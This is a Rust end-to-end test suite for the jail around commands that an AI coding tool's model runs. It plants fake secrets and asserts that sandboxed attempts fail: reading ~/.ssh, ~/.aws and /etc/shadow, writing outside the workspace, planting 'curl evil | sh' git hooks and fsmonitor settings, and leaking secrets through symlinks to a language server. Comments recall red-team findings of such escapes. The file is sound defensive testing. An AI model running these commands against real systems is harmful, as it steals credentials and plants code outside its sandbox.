//! End-to-end tests of the jail around the programs the model runs: each case runs a snippet
//! through the real binary (`punie sandbox --allow-commands`) as this user and, when that is
//! root, again as an unprivileged user made with `useradd` and entered with `runuser` (as CI
//! does), and again with namespaces turned off (the fallback of machines without user
//! namespaces). Each plants what an attacker wants (fake secrets under a fake HOME, a token
//! in the server's environment, listeners on the host, files outside the workspace) and
//! asserts that the effect did not happen: no marker in any output, no file changed, no
//! connection accepted, no process left. Deadlines and cancel are tested through the
//! library, where the limits can be short.

use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use serde_json::Value;

const TEST_USER: &str = "punie-e2e-jail";
const SECRET: &str = "PUNIE-FAKE-SECRET";
const SERVER_TOKEN: &str = "PUNIE-SERVER-TOKEN-7c1e";

fn punie_exe() -> &'static Path {
    Path::new(env!("CARGO_BIN_EXE_punie"))
}

/// Who runs `punie`, and how its commands are contained.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Identity {
    /// This process's user (root on CI).
    Current,
    /// An unprivileged user (only when this process is root).
    Unprivileged,
    /// This process's user with `PUNIE_JAIL_NAMESPACES=0`: Landlock, seccomp and a subreaper.
    NoNamespaces,
    /// The unprivileged user with `PUNIE_JAIL_NAMESPACES=0` (only when this process is root;
    /// not in [`identities`]: for the cases where root and a user differ without namespaces).
    UnprivilegedNoNamespaces,
}

impl Identity {
    fn unprivileged(self) -> bool {
        matches!(
            self,
            Identity::Unprivileged | Identity::UnprivilegedNoNamespaces
        )
    }

    fn namespaces(self) -> bool {
        matches!(self, Identity::Current | Identity::Unprivileged)
    }
}

fn is_root() -> bool {
    // SAFETY: geteuid has no arguments.
    unsafe { libc::geteuid() == 0 }
}

fn identities() -> Vec<Identity> {
    if is_root() {
        vec![
            Identity::Current,
            Identity::Unprivileged,
            Identity::NoNamespaces,
        ]
    } else {
        vec![Identity::Current, Identity::NoNamespaces]
    }
}

/// The unprivileged user's uid and gid, creating the user the first time.
fn test_user() -> (u32, u32) {
    static USER: OnceLock<(u32, u32)> = OnceLock::new();
    *USER.get_or_init(|| {
        let id = |flag: &str| {
            Command::new("id")
                .args([flag, TEST_USER])
                .output()
                .ok()
                .filter(|out| out.status.success())
                .and_then(|out| String::from_utf8_lossy(&out.stdout).trim().parse().ok())
        };
        if id("-u").is_none() {
            let status = Command::new("useradd")
                .args([
                    "--system",
                    "--no-create-home",
                    "--shell",
                    "/bin/false",
                    TEST_USER,
                ])
                .status()
                .expect("useradd runs");
            assert!(
                status.success() || id("-u").is_some(),
                "useradd {TEST_USER} failed"
            );
        }
        (id("-u").unwrap(), id("-g").unwrap())
    })
}

/// The punie binary as the unprivileged user can run it: the build itself when the user can
/// reach it, else a copy in a directory anyone can read.
fn punie_for_user() -> PathBuf {
    static EXE: OnceLock<PathBuf> = OnceLock::new();
    EXE.get_or_init(|| {
        let reachable = Command::new("runuser")
            .args(["-u", TEST_USER, "--", "test", "-x"])
            .arg(punie_exe())
            .status()
            .is_ok_and(|status| status.success());
        if reachable {
            return punie_exe().to_path_buf();
        }
        let dir = tempfile::Builder::new()
            .prefix("punie-e2e-exe-")
            .tempdir()
            .unwrap()
            .keep();
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        let copy = dir.join("punie");
        std::fs::copy(punie_exe(), &copy).unwrap();
        copy
    })
    .clone()
}

/// The secrets planted under the fake home, each holding `SECRET` and its name.
const PLANTED: &[&str] = &[
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".gnupg/private-keys-v1.d/key.key",
    ".netrc",
    ".git-credentials",
    ".config/gh/hosts.yml",
    ".docker/config.json",
    ".kube/config",
    ".mozilla/firefox/p.default/logins.json",
    ".config/google-chrome/Default/Login Data",
    ".cargo/credentials.toml",
    ".npmrc",
    ".pypirc",
    ".local/share/keyrings/login.keyring",
];

/// A fake home with secrets and a toolchain, a workspace, and a directory outside both that
/// the user may write to (so that only the jail stops a write there), all owned by whoever
/// runs `punie`.
struct Scenario {
    identity: Identity,
    dir: tempfile::TempDir,
    /// A directory put first on `PATH` (the set-up's Python tools: ty).
    tools: Option<PathBuf>,
}

impl Scenario {
    fn new(identity: Identity) -> Scenario {
        let dir = tempfile::Builder::new()
            .prefix("punie-e2e-jail-")
            .tempdir()
            .unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let res = Scenario {
            identity,
            dir,
            tools: None,
        };
        for name in PLANTED {
            let path = res.home().join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, format!("{SECRET} {name}\n")).unwrap();
        }
        // A toolchain in its usual home, and git's configuration: readable.
        let tool = res.home().join(".cargo/bin/punie-e2e-tool");
        std::fs::create_dir_all(tool.parent().unwrap()).unwrap();
        std::fs::write(&tool, "#!/bin/sh\necho toolchain-runs\n").unwrap();
        std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::write(
            res.home().join(".gitconfig"),
            "[user]\n\tname = Jail Test\n\temail = jail@example.com\n",
        )
        .unwrap();
        std::fs::create_dir_all(res.workspace()).unwrap();
        std::fs::write(res.workspace().join("a.txt"), "alpha\n").unwrap();
        std::fs::create_dir_all(res.outside()).unwrap();
        std::fs::write(res.outside().join("existing.txt"), "original\n").unwrap();
        if identity.unprivileged() {
            let (uid, gid) = test_user();
            chown_tree(res.dir.path(), uid, gid);
        }
        res
    }

    fn home(&self) -> PathBuf {
        self.dir.path().join("home")
    }

    fn workspace(&self) -> PathBuf {
        self.dir.path().join("ws")
    }

    fn outside(&self) -> PathBuf {
        self.dir.path().join("outside")
    }

    /// Runs `code` with `punie sandbox --allow-commands` plus `flags`, with the fake home and
    /// a token in the server's environment; `H`, `O` and `W` in the snippet are the home, the
    /// outside directory and the workspace.
    fn sandbox(&self, code: &str, flags: &[&str]) -> Run {
        self.sandbox_in(&self.workspace(), code, flags)
    }

    /// [`Scenario::sandbox`] with another directory as the workspace.
    fn sandbox_in(&self, workspace: &Path, code: &str, flags: &[&str]) -> Run {
        let code = format!(
            "H = {:?}\nO = {:?}\nW = {:?}\n{code}",
            self.home().display().to_string(),
            self.outside().display().to_string(),
            self.workspace().display().to_string(),
        );
        let env = [
            ("HOME", self.home().display().to_string()),
            (
                "PATH",
                format!(
                    "{tools}{home}/.local/bin:{home}/.docker/bin:{home}/.cargo/bin:/usr/local/bin:/usr/bin:/bin",
                    tools = self
                        .tools
                        .as_ref()
                        .map(|dir| format!("{}:", dir.display()))
                        .unwrap_or_default(),
                    home = self.home().display()
                ),
            ),
            ("PUNIE_SERVER_TOKEN", SERVER_TOKEN.to_owned()),
            (
                "PUNIE_JAIL_NAMESPACES",
                if self.identity.namespaces() { "1" } else { "0" }.to_owned(),
            ),
        ];
        let mut command = match self.identity {
            Identity::Current | Identity::NoNamespaces => {
                let mut command = Command::new(punie_exe());
                command.env_clear().envs(env.iter().map(|(k, v)| (k, v)));
                command
            }
            Identity::Unprivileged | Identity::UnprivilegedNoNamespaces => {
                let mut command = Command::new("runuser");
                command
                    .args(["-u", TEST_USER, "--", "env", "-i"])
                    .args(env.iter().map(|(k, v)| format!("{k}={v}")))
                    .arg(punie_for_user());
                command
            }
        };
        // An editor may leak descriptors into the server: leak one (a copy of stderr, not
        // close-on-exec, at 100 or above), which no command may inherit.
        {
            use std::os::unix::process::CommandExt;
            // SAFETY: fcntl is async-signal-safe and touches only the new process.
            unsafe {
                command.pre_exec(|| {
                    libc::fcntl(2, libc::F_DUPFD, 100);
                    Ok(())
                });
            }
        }
        command
            .arg("sandbox")
            .arg("--workspace")
            .arg(workspace)
            .arg("--allow-commands")
            .args(flags)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let start = Instant::now();
        let mut child = command.spawn().expect("punie starts");
        child
            .stdin
            .take()
            .unwrap()
            .write_all(code.as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        let elapsed = start.elapsed();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(
            out.status.success(),
            "{:?}: punie sandbox failed: {stderr}",
            self.identity
        );
        let result: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|err| {
            panic!(
                "{:?}: not JSON ({err}): {}",
                self.identity,
                String::from_utf8_lossy(&out.stdout)
            )
        });
        Run {
            identity: self.identity,
            text: format!("{}\n{stderr}", serde_json::to_string(&result).unwrap()),
            output: result["output"].as_str().unwrap_or("").to_owned(),
            result,
            stderr,
            elapsed,
        }
    }
}

fn chown_tree(path: &Path, uid: u32, gid: u32) {
    std::os::unix::fs::lchown(path, Some(uid), Some(gid)).unwrap();
    if path.is_dir() && !path.is_symlink() {
        for entry in std::fs::read_dir(path).unwrap() {
            chown_tree(&entry.unwrap().path(), uid, gid);
        }
    }
}

/// What one `punie sandbox` run produced.
struct Run {
    identity: Identity,
    /// What the snippet printed.
    output: String,
    stderr: String,
    /// The result object `punie sandbox` printed.
    result: Value,
    /// The whole result object and stderr: where a leak would show.
    text: String,
    elapsed: Duration,
}

impl Run {
    #[track_caller]
    fn assert_no(&self, marker: &str) {
        if let Some(at) = self.text.find(marker) {
            let from = self.text.floor_char_boundary(at.saturating_sub(1500));
            let to = self
                .text
                .ceil_char_boundary((at + 500).min(self.text.len()));
            panic!(
                "{:?}: `{marker}` leaked:\n…{}…",
                self.identity,
                &self.text[from..to]
            );
        }
    }

    #[track_caller]
    fn assert_printed(&self, expected: &str) {
        assert!(
            self.output.contains(expected),
            "{:?}: expected `{expected}` in the output:\n{}\n{}",
            self.identity,
            self.output,
            self.stderr
        );
    }
}

/// A snippet that runs each argv in turn and prints what came back (or what was raised).
fn attempts(argvs: &[&[&str]]) -> String {
    let mut res = String::from("for argv in [\n");
    for argv in argvs {
        res.push_str("    [");
        for arg in argv.iter() {
            // Plain strings, or the snippet's variables H, O and W followed by a suffix.
            let quoted = match arg.split_once('$') {
                Some((var, rest)) if matches!(var, "H" | "O" | "W") => {
                    format!("{var} + {rest:?}")
                }
                _ => format!("{arg:?}"),
            };
            res.push_str(&quoted);
            res.push_str(", ");
        }
        res.push_str("],\n");
    }
    res.push_str(
        "]:\n    try:\n        print(run_command(argv[0], args=argv[1:]))\n    except Exception as e:\n        print('raised', e)\n",
    );
    res
}

/// Processes whose command line contains `needle` (other than this test process).
pub(crate) fn processes_matching(needle: &str) -> Vec<String> {
    let me = std::process::id().to_string();
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|entry| {
            let name = entry.file_name();
            let name = name.to_string_lossy();
            name.chars().all(|ch| ch.is_ascii_digit()) && name != me
        })
        .filter_map(|entry| {
            let cmdline = std::fs::read(entry.path().join("cmdline")).ok()?;
            let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
            cmdline
                .contains(needle)
                .then(|| format!("{}: {cmdline}", entry.file_name().to_string_lossy()))
        })
        .collect()
}

#[test]
fn secrets_outside_the_workspace_stay_unreadable() {
    for identity in identities() {
        let scenario = Scenario::new(identity);
        let code = attempts(&[
            &["cat", "H$/.ssh/id_ed25519"],
            &["sh", "-c", "cat ~/.ssh/* ~/.aws/credentials ~/.netrc"],
            // A pattern that matches the secrets without spelling them in this call.
            &["grep", "-r", "PUNIE-FAKE-SE[C]RET", "H$"],
            &["find", "H$", "-type", "f", "-exec", "cat", "{}", ";"],
            &["tar", "cf", "-", "H$"],
            &["cp", "-r", "H$/.aws", "stolen-aws"],
            &["sh", "-c", "cat stolen-aws/*"],
            &["ln", "-s", "H$/.ssh/id_ed25519", "link-to-key"],
            &["cat", "link-to-key"],
            &["ln", "H$/.netrc", "hard-link"],
            &["sh", "-c", "cat /proc/self/root\"$0\"/.kube/config", "H$"],
            &["cat", "H$/.cargo/credentials.toml"],
            &["ls", "H$/.ssh"],
            &["cat", "/etc/shadow"],
            &[
                "python3",
                "-c",
                "import glob,sys\nfor p in glob.glob(sys.argv[1] + '/**', recursive=True, include_hidden=True):\n    try: print(open(p).read())\n    except Exception as e: print(e)",
                "H$",
            ],
            // What toolchains need from the home stays readable.
            &["punie-e2e-tool"],
            &["H$/.cargo/bin/punie-e2e-tool"],
            &["git", "config", "user.name"],
        ]);
        let run = scenario.sandbox(&code, &[]);
        run.assert_no(SECRET);
        assert!(!scenario.workspace().join("hard-link").exists());
        run.assert_printed("toolchain-runs");
        run.assert_printed("Jail Test");
    }
}

/// The Python tools' folder (`.venv/bin`), with ty in it.
fn python_tools() -> PathBuf {
    let tools = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../.venv/bin")
        .canonicalize()
        .expect("scripts/bootstrap.sh installs the Python tools in .venv");
    assert!(
        tools.join("ty").is_file(),
        "ty is not installed in {tools:?}"
    );
    tools
}

/// The language server behind navigation answers read-class tools, which run without a
/// question, so it reads nothing `read_file` would not read without asking: a name bound in a
/// workspace `.env` reached through `settings_local.py -> .env`, or in `~/.cargo/config.toml`
/// (readable to commands) through a link out of the workspace, reaches no hover, definition,
/// reference or symbol, not even through a second name (`x = API_KEY`); neither does a secret
/// and a link to it made while the server runs. Navigation still answers from ty for the
/// workspace's own code, a module made while it runs included.
#[test]
fn navigation_reads_no_secret_through_a_link() {
    const IN_WORKSPACE: &str = "sk-live-PUNIE-ENV-4f9a2c";
    const OUTSIDE: &str = "cio-PUNIE-REGISTRY-77";
    const MADE_LATER: &str = "PUNIE-MADE-LATER-31d0";
    let tools = python_tools();
    for identity in identities() {
        let mut scenario = Scenario::new(identity);
        scenario.tools = Some(tools.clone());
        let ws = scenario.workspace();
        let home = scenario.home();
        std::fs::write(ws.join(".env"), format!("API_KEY = \"{IN_WORKSPACE}\"\n")).unwrap();
        std::fs::write(
            home.join(".cargo/config.toml"),
            format!("[registries.corp]\ntoken = \"{OUTSIDE}\"\n"),
        )
        .unwrap();
        std::os::unix::fs::symlink(".env", ws.join("settings_local.py")).unwrap();
        std::os::unix::fs::symlink(home.join(".cargo/config.toml"), ws.join("corp_settings.py"))
            .unwrap();
        std::fs::create_dir(ws.join("sub")).unwrap();
        std::fs::write(ws.join("sub/__init__.py"), "").unwrap();
        std::fs::write(
            ws.join("shapes.py"),
            "def greet(n: int) -> str:\n    return str(n)\n",
        )
        .unwrap();
        std::fs::write(
            ws.join("app.py"),
            "from settings_local import API_KEY\nfrom corp_settings import token\nfrom shapes import greet\nx = API_KEY\nt = token\ny = greet(1)\n",
        )
        .unwrap();
        if identity.unprivileged() {
            let (uid, gid) = test_user();
            chown_tree(scenario.dir.path(), uid, gid);
        }
        // The secret is spelled in two halves: the call's own arguments are in the output.
        // In `sub/`, which holds no secret when the server starts, so its jail grants it whole.
        let (first, second) = MADE_LATER.split_at(8);
        let secret_later = format!(
            "printf 'K = \"%s%s\"\\n' {first} {second} > sub/.env.local; \
             ln -s .env.local sub/extra.py; printf 'from sub.extra import K\\nk = K\\n' > sub/app3.py"
        );
        // Beside `.env`, where its jail grants entry by entry.
        let module_later =
            "printf 'N = 1\\n' > later.py; printf 'from later import N\\nq = N\\n' > app2.py";
        let code = format!(
            r#"
for label, file, line, column, name in [("x", "app.py", 4, 1, "x"), ("t", "app.py", 5, 1, "t"), ("key", "app.py", 1, 27, "API_KEY"), ("token", "app.py", 2, 27, "token"), ("y", "app.py", 6, 1, "y")]:
    h = hover(file, line, column, name)
    print(label, h.answered_by, repr(h.content))
    g = goto_definition(file, line, column, name)
    print(label, "def", [(l.file, l.preview) for l in g.locations])
    r = find_references(file, line, column, name)
    print(label, "refs", [(l.file, l.preview) for l in r.references])
print("symbols", [s.name for s in workspace_symbols("API").symbols], document_symbols("app.py").symbol_count)
for label, file, name, made in [("k", "sub/app3.py", "k", {secret_later:?}), ("q", "app2.py", "q", {module_later:?})]:
    run_command("sh", args=["-c", made])
    h = hover(file, 2, 1, name)
    print(label, h.answered_by, repr(h.content))
"#
        );
        let run = scenario.sandbox(&code, &[]);
        for secret in [IN_WORKSPACE, OUTSIDE, MADE_LATER] {
            run.assert_no(secret);
        }
        run.assert_printed("y ty server 'str'");
        run.assert_printed("q ty server 'Literal[1]'");
    }
}

/// A repository can fake every marker of a directory that tools fill, so none keeps the
/// language server from a secret there: a `.env` in a directory holding a `pyvenv.cfg`, in one
/// laid out like a git directory, in `node_modules/`, or in the workspace's real `.venv`,
/// reached through a module that links to it, reaches no hover (red team round 10). Third-party
/// types from `.venv` still resolve.
#[test]
fn navigation_reads_no_secret_in_a_directory_that_looks_filled_by_tools() {
    const SECRETS: &[(&str, &str)] = &[
        ("config", "sk-live-PUNIE-PYVENV-1b7e"),
        ("vendored", "sk-live-PUNIE-GITDIR-5c2d"),
        ("node_modules", "sk-live-PUNIE-NODEMOD-9a41"),
        (".venv", "sk-live-PUNIE-VENV-e803"),
    ];
    let tools = python_tools();
    for identity in identities() {
        let mut scenario = Scenario::new(identity);
        scenario.tools = Some(tools.clone());
        let ws = scenario.workspace();
        let write = |rel: &str, text: &str| {
            let path = ws.join(rel);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        };
        for (dir, secret) in SECRETS {
            write(&format!("{dir}/.env"), &format!("KEY = \"{secret}\"\n"));
        }
        write("config/pyvenv.cfg", "home = /usr/bin\n");
        write("vendored/HEAD", "ref: refs/heads/main\n");
        std::fs::create_dir(ws.join("vendored/objects")).unwrap();
        std::fs::create_dir(ws.join("vendored/refs")).unwrap();
        let site_packages = ".venv/lib/python3.11/site-packages";
        write(".venv/pyvenv.cfg", "home = /usr/bin\nversion = 3.11.7\n");
        write(
            &format!("{site_packages}/thirdparty/__init__.py"),
            "def made() -> bytes:\n    return b''\n",
        );
        for package in ["config", "vendored", "node_modules"] {
            write(&format!("{package}/__init__.py"), "");
            std::os::unix::fs::symlink(".env", ws.join(package).join("settings.py")).unwrap();
        }
        std::os::unix::fs::symlink("../../../.env", ws.join(site_packages).join("vsettings.py"))
            .unwrap();
        write(
            "app.py",
            "from config.settings import KEY as a\nfrom vendored.settings import KEY as b\n\
             from node_modules.settings import KEY as c\nfrom vsettings import KEY as d\n\
             from thirdparty import made\nx = (a, b, c, d)\ne = made()\n",
        );
        if identity.unprivileged() {
            let (uid, gid) = test_user();
            chown_tree(scenario.dir.path(), uid, gid);
        }
        let code = r#"
for name, column in [("x", 1), ("a", 6), ("b", 9), ("c", 12), ("d", 15)]:
    h = hover("app.py", 6, column, name)
    print(name, h.answered_by, repr(h.content))
    g = goto_definition("app.py", 6, column, name)
    print(name, "def", [(l.file, l.preview) for l in g.locations])
h = hover("app.py", 7, 1, "e")
print("e", h.answered_by, repr(h.content))
"#;
        let run = scenario.sandbox(code, &[]);
        for (_, secret) in SECRETS {
            run.assert_no(secret);
        }
        run.assert_printed("e ty server 'bytes'");
    }
}

#[test]
fn nothing_outside_the_workspace_is_written() {
    for identity in identities() {
        let scenario = Scenario::new(identity);
        let tmp_marker = format!("/tmp/punie-e2e-jail-escape-{}", std::process::id());
        // The private directory is /tmp/punie-run-…/; its parent's parent is /.
        let escaped = format!("/escaped-{}", std::process::id());
        let code = attempts(&[
            &["touch", "O$/touched"],
            &["sh", "-c", "echo x > \"$0\"/redirected", "O$"],
            &["cp", "a.txt", "O$/copied"],
            &["mkdir", "O$/made-dir"],
            &["ln", "-s", "/etc/passwd", "O$/symlink"],
            &[
                "sh",
                "-c",
                "ln -s \"$0\" out && echo x > out/through-link",
                "O$",
            ],
            &[
                "python3",
                "-c",
                "import sys; open(sys.argv[1] + '/py', 'w').write('x')",
                "O$",
            ],
            &["sh", "-c", "echo overwritten > \"$0\"/existing.txt", "O$"],
            &["truncate", "-s", "0", "O$/existing.txt"],
            &["rm", "-f", "O$/existing.txt"],
            &["mv", "a.txt", "O$/moved"],
            &["touch", "H$/.bashrc-planted"],
            &["touch", &tmp_marker],
            &["sh", "-c", &format!("echo x > ~/../../..{escaped}")],
            &[
                "sh",
                "-c",
                "echo inside > inside.txt && echo tmp > \"$TMPDIR\"/t && cat \"$TMPDIR\"/t && echo home > ~/h && cat ~/h",
            ],
        ]);
        let run = scenario.sandbox(&code, &[]);
        for name in [
            "touched",
            "redirected",
            "copied",
            "made-dir",
            "symlink",
            "through-link",
            "py",
            "moved",
        ] {
            assert!(
                std::fs::symlink_metadata(scenario.outside().join(name)).is_err(),
                "{identity:?}: {name} was written outside:\n{}",
                run.output
            );
        }
        assert_eq!(
            std::fs::read_to_string(scenario.outside().join("existing.txt")).unwrap(),
            "original\n",
            "{identity:?}"
        );
        assert!(!scenario.home().join(".bashrc-planted").exists());
        assert!(
            !Path::new(&tmp_marker).exists(),
            "{identity:?}: {tmp_marker}"
        );
        assert!(!Path::new(&escaped).exists(), "{identity:?}: {escaped}");
        // Inside the workspace and the private directory, writes work.
        assert_eq!(
            std::fs::read_to_string(scenario.workspace().join("inside.txt")).unwrap(),
            "inside\n"
        );
        run.assert_printed("tmp\nhome\n");
    }
}

/// Protected paths inside the workspace (`policy::PROTECTED`) stay as they are, though the
/// workspace is writable: a hook or an editor setting is code that runs outside the jail.
#[test]
fn protected_paths_in_the_workspace_are_kept_with_namespaces() {
    for identity in identities()
        .into_iter()
        .filter(|identity| *identity != Identity::NoNamespaces)
    {
        let scenario = Scenario::new(identity);
        let ws = scenario.workspace();
        for dir in [
            ".git/hooks",
            ".vscode",
            ".github/workflows",
            "vendor/lib/.git/hooks",
        ] {
            std::fs::create_dir_all(ws.join(dir)).unwrap();
        }
        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(ws.join("team.code-workspace"), "{}\n").unwrap();
        std::fs::write(ws.join(".vscode/settings.json"), "{}\n").unwrap();
        std::fs::write(ws.join(".envrc"), "export A=1\n").unwrap();
        if identity == Identity::Unprivileged {
            let (uid, gid) = test_user();
            chown_tree(&ws, uid, gid);
        }
        let run = scenario.sandbox(
            &attempts(&[
                &["sh", "-c", "echo 'curl evil | sh' > .git/hooks/pre-commit"],
                &["sh", "-c", "echo '[core] fsmonitor = evil' >> .git/config"],
                &["sh", "-c", "echo '{\"x\": 1}' > .vscode/settings.json"],
                &["sh", "-c", "echo evil >> .envrc"],
                &["sh", "-c", "echo 'on: push' > .github/workflows/evil.yml"],
                &["mv", ".git", "moved-git"],
                // A nested repository's hooks run as surely as the top one's.
                &[
                    "sh",
                    "-c",
                    "echo 'curl evil | sh' > vendor/lib/.git/hooks/pre-commit",
                ],
                &["sh", "-c", "echo '{\"tasks\": 1}' > team.code-workspace"],
                &["sh", "-c", "echo fine > src-file.txt && cat src-file.txt"],
            ]),
            &[],
        );
        assert!(
            !ws.join(".git/hooks/pre-commit").exists(),
            "{identity:?}: {}",
            run.output
        );
        assert_eq!(
            std::fs::read_to_string(ws.join(".git/config")).unwrap(),
            "[core]\n"
        );
        assert_eq!(
            std::fs::read_to_string(ws.join(".vscode/settings.json")).unwrap(),
            "{}\n"
        );
        assert_eq!(
            std::fs::read_to_string(ws.join(".envrc")).unwrap(),
            "export A=1\n"
        );
        assert!(!ws.join(".github/workflows/evil.yml").exists());
        assert!(ws.join(".git").is_dir() && !ws.join("moved-git").exists());
        assert!(!ws.join("vendor/lib/.git/hooks/pre-commit").exists());
        assert_eq!(
            std::fs::read_to_string(ws.join("team.code-workspace")).unwrap(),
            "{}\n"
        );
        run.assert_printed("fine");
    }
}

/// A bare repository opened as the workspace (F1 of red-team round 5): its root is a git
/// directory, so its `config` and `hooks/` are the workspace's own files, and a command once
/// made an executable `hooks/post-checkout` there that the user's next `git worktree add`
/// ran outside the jail. Such a root is read-only to commands as a whole, with namespaces
/// and without (Landlock grants no write there): nothing in it changes, and the command's
/// output says why.
#[test]
fn a_bare_repository_opened_as_the_workspace_stays_as_it_is() {
    for identity in identities() {
        let scenario = Scenario::new(identity);
        let bare = scenario.dir.path().join("bare.git");
        crate::support::git(&["init", "-q", "--bare", "bare.git"], scenario.dir.path());
        if identity.unprivileged() {
            let (uid, gid) = test_user();
            chown_tree(&bare, uid, gid);
        }
        let config = std::fs::read(bare.join("config")).unwrap();
        let hook = "printf '#!/bin/sh\\ntouch ran\\n' > hooks/post-checkout; \
                    chmod 755 hooks/post-checkout";
        let run = scenario.sandbox_in(
            &bare,
            &attempts(&[
                &["sh", "-c", hook],
                &["git", "config", "core.fsmonitor", "touch ran"],
                &["sh", "-c", "echo x > new-file"],
                &["sh", "-c", "cat HEAD"],
            ]),
            &[],
        );
        assert!(
            !bare.join("hooks/post-checkout").exists(),
            "{identity:?}: {}",
            run.output
        );
        assert_eq!(
            std::fs::read(bare.join("config")).unwrap(),
            config,
            "{identity:?}: {}",
            run.output
        );
        assert!(
            !bare.join("new-file").exists(),
            "{identity:?}: {}",
            run.output
        );
        // Reads still work.
        run.assert_printed("ref: refs/heads/");
        run.assert_printed(
            "[the workspace folder is protected (version control internals): commands may read \
             it, not change it]",
        );
    }
}

/// Paths are bytes: a protected file with a name that is not UTF-8 (as a clone can bring) is
/// mounted read-only like any other, and a `cwd` reached through a directory a command made
/// with such a name works; neither stops commands from running.
#[test]
fn protected_paths_and_a_cwd_that_are_not_utf8_work() {
    use std::os::unix::ffi::OsStrExt;
    for identity in identities()
        .into_iter()
        .filter(|identity| *identity != Identity::NoNamespaces)
    {
        let scenario = Scenario::new(identity);
        let ws = scenario.workspace();
        let odd = ws.join(std::ffi::OsStr::from_bytes(b"a\xff.code-workspace"));
        std::fs::create_dir_all(ws.join(".git")).unwrap();
        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(&odd, "{}\n").unwrap();
        if identity == Identity::Unprivileged {
            let (uid, gid) = test_user();
            chown_tree(&ws, uid, gid);
        }
        let run = scenario.sandbox(
            r#"
print(run_command("sh", args=["-c", "echo '{\"tasks\": 1}' > \"$(printf 'a\\377.code-workspace')\"; echo first-ran"]))
print(run_command("sh", args=["-c", "mkdir \"$(printf 'x\\377')\" && ln -s \"$(printf 'x\\377')\" d"]))
print(run_command("pwd", cwd="d"))
"#,
            &[],
        );
        run.assert_printed("first-ran");
        assert_eq!(
            std::fs::read_to_string(&odd).unwrap(),
            "{}\n",
            "{identity:?}"
        );
        assert!(
            run.output.contains("x\u{fffd}") || run.output.contains("x\\xff"),
            "{identity:?}: the command did not run in the directory: {}",
            run.output
        );
    }
}

/// Punie's data directory (its saved sessions and models) stays out of reach when the
/// workspace holds it (the home opened as the workspace): a command cannot plant a FIFO
/// among the saved sessions or replace a model, and the tools neither write nor read it.
#[test]
fn punies_data_directory_is_out_of_reach_in_a_workspace_that_holds_it() {
    for identity in identities() {
        let scenario = Scenario::new(identity);
        let home = scenario.home();
        let data = home.join(".local/share/punie");
        for dir in ["sessions", "models"] {
            std::fs::create_dir_all(data.join(dir)).unwrap();
        }
        std::fs::write(data.join("sessions/s.meta.json"), "{}\n").unwrap();
        std::fs::write(data.join("models/m.gguf"), "GGUF\n").unwrap();
        if identity == Identity::Unprivileged {
            let (uid, gid) = test_user();
            chown_tree(&home, uid, gid);
        }
        let code = format!(
            "{}\n{}",
            attempts(&[
                &["mkfifo", ".local/share/punie/sessions/x.meta.json"],
                &[
                    "sh",
                    "-c",
                    "echo evil > .local/share/punie/sessions/s.meta.json"
                ],
                &["sh", "-c", "echo evil > .local/share/punie/models/m.gguf"],
                &["mv", ".local/share/punie", "moved"],
                &["cat", ".local/share/punie/sessions/s.meta.json"],
                &["echo", "still-runs"],
            ]),
            r#"
for name in [".local/share/punie/sessions/y.meta.json", ".local/share/punie/models/m.gguf"]:
    try:
        write_file(name, "evil")
        print("WROTE", name)
    except Exception as err:
        print("refused", err)
"#
        );
        let run = scenario.sandbox_in(&home, &code, &[]);
        run.assert_printed("still-runs");
        run.assert_no("WROTE");
        let mut names: Vec<String> = std::fs::read_dir(data.join("sessions"))
            .unwrap()
            .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        assert_eq!(names, ["s.meta.json"], "{identity:?}: {}", run.output);
        assert_eq!(
            std::fs::read_to_string(data.join("sessions/s.meta.json")).unwrap(),
            "{}\n"
        );
        assert_eq!(
            std::fs::read_to_string(data.join("models/m.gguf")).unwrap(),
            "GGUF\n"
        );
        assert!(!home.join("moved").exists(), "{identity:?}");
    }
}

/// A protected path that did not exist when a command started cannot be mounted read-only;
/// the one a command creates is moved into `.punie/quarantine` when it ends, with or without
/// namespaces and as any user.
#[test]
fn protected_paths_a_command_creates_are_moved_aside() {
    for identity in identities() {
        let scenario = Scenario::new(identity);
        let ws = scenario.workspace();
        if identity == Identity::Unprivileged {
            let (uid, gid) = test_user();
            chown_tree(&ws, uid, gid);
        }
        let run = scenario.sandbox(
            &attempts(&[
                &[
                    "sh",
                    "-c",
                    "mkdir -p .cargo && echo '[build]' > .cargo/config.toml",
                ],
                &[
                    "sh",
                    "-c",
                    "mkdir -p pkg/.vscode && echo '{}' > pkg/.vscode/tasks.json",
                ],
                &["sh", "-c", "echo fine > src-file.txt && cat src-file.txt"],
            ]),
            &[],
        );
        assert!(
            !ws.join(".cargo/config.toml").exists(),
            "{identity:?}: {}",
            run.output
        );
        assert!(!ws.join("pkg/.vscode").exists(), "{identity:?}");
        run.assert_printed("moved to .punie/quarantine/");
        run.assert_printed("fine");
        let kept: Vec<PathBuf> = std::fs::read_dir(ws.join(".punie/quarantine"))
            .unwrap()
            .flatten()
            .map(|entry| entry.path())
            .filter(|path| path.is_dir())
            .collect();
        assert!(
            kept.iter()
                .any(|dir| dir.join(".cargo/config.toml").is_file()),
            "{identity:?}: {kept:?}"
        );
        assert_eq!(
            std::fs::read_to_string(ws.join("src-file.txt")).unwrap(),
            "fine\n"
        );
    }
}

